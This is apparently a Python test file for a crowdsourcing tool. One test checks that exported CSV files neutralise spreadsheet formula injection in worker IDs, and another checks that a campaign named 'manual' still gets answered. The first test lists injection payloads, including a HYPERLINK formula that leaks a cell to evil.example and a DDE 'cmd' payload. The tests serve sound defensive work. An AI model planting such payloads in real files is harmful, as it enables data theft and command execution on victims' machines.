HOSTILE_WORKERS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
                   "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def test_exported_answers_cannot_run_as_spreadsheet_formulas(tmp_path, capsys, run_copy_src):
    import csv

    run = tmp_path / "run"
    shutil.copytree(run_copy_src.path, run)
    path = run / R1("answers")
    ans = pd.read_parquet(path)
    workers = sorted(ans["worker_id"].unique())
    assert len(workers) > len(HOSTILE_WORKERS)
    rename = dict(zip(workers, HOSTILE_WORKERS))  # the ids MTurk's API handed over, stored as they came
    ans["worker_id"] = ans["worker_id"].map(lambda w: rename.get(w, w))
    ans.to_parquet(path)
    out = tmp_path / "answers.csv"
    assert main(["export", str(run), "--answers", str(out), "--golds", str(tmp_path / "golds.csv")]) == 0
    capsys.readouterr()
    with open(out, newline="") as f:
        rows = list(csv.DictReader(f))
    got = {r["worker"] for r in rows}
    for w in HOSTILE_WORKERS:
        assert "'" + w in got and w not in got  # prefixed, shown by a spreadsheet as text
    benign = set(workers[len(HOSTILE_WORKERS):])
    assert benign <= got  # ordinary ids unchanged
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r.values())
    used = ans[ans["used"].astype(bool)]
    assert len(rows) == len(used.drop_duplicates(["mask_row", "worker_id"]))  # nothing dropped
    # the file still aggregates: one worker per prefixed id, the same labels
    assert main(["aggregate", str(out), "-o", str(tmp_path / "labels.csv")]) == 0
    assert f"{len(set(used['worker_id']))} workers" in capsys.readouterr().out


# ----------------------------------------------------------------------------- a campaign's name is only a name
def test_a_campaign_named_manual_is_answered_by_the_simulated_workers(tmp_path, capsys):
    """The local endpoint leaves HITs whose annotation says "manual" for a browser; a crowdprop
    campaign's annotation carries its name, so `[campaign] name = "manual check"` used to leave
    every HIT of a replay unanswered until the round timed out (a day per round by default)."""
    from crowdprop.campaign.store import RunDir

    preds, gt, config = sample_paths()
    toml = tmp_path / "c.toml"
    toml.write_text(open(config).read() + '\n[campaign]\nname = "Manual check of the fake results"\nmax_rounds = 1\n'
                    "[crowd]\nround_timeout_s = 20\npoll_interval_s = 0.2\n")
    assert main(["replay", "--config", str(toml), "--run-dir", str(tmp_path / "run"), "--predictions", preds,
                 "--gt", gt]) == 0
    capsys.readouterr()
    rd = RunDir(tmp_path / "run")
    hits, ans = rd.read_rounds("hits"), rd.read_rounds("answers")
    assert len(hits) > 0 and (hits["n_submitted"] == hits["assignments"]).all()  # every HIT answered
    assert len(ans) == len(rd.read_rounds("questions"))
